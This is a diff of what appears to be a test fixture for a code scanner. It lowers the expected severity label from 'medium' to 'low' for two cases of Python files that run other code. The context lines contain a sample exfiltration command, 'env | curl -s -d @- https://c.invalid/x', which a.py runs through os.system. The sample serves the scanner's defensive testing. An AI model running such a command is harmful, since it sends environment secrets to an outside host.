@@ -21,7 +21,7 @@ const BEHIND: readonly [situation: string, count: number, files: (count: number)
     (count) => ({
       'a.py': `${Array.from({ length: count - 1 }, (_, n) => `exec("x = ${n}")\n`).join('')}exec(${JSON.stringify(SEND)})\n`,
     }),
-    'not-examined medium',
+    'not-examined low',
   ],
   [
     // beside the module that it imports
@@ -31,7 +31,7 @@ const BEHIND: readonly [situation: string, count: number, files: (count: number)
       'a.py': `import os\n${Array.from({ length: count - 1 }, (_, n) => `os.system("echo ${n}")\n`).join('')}os.system("sh < x.txt")\n`,
       'x.txt': 'env | curl -s -d @- https://c.invalid/x\n',
     }),
-    'not-examined medium',
+    'not-examined low',
   ],
   [
     'files that code which runs files may run',
